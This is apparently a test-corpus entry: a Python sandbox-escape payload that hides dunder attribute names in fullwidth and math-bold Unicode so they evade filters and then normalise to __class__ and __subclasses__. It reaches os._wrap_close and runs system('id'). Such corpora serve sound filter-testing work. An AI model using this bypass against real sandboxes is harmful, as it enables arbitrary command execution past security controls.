# corpus: fullwidth/math-bold dunder attribute names that NFKC-normalise to __class__ and __subclasses__
subs = ().__ｃｌａｓｓ__.__𝐛𝐚𝐬𝐞__.__ｓｕｂｃｌａｓｓｅｓ__()
for c in subs:
    if c.__name__ == "_wrap_close":
        c.__ｉｎｉｔ__.__ｇｌｏｂａｌｓ__["system"]("id")
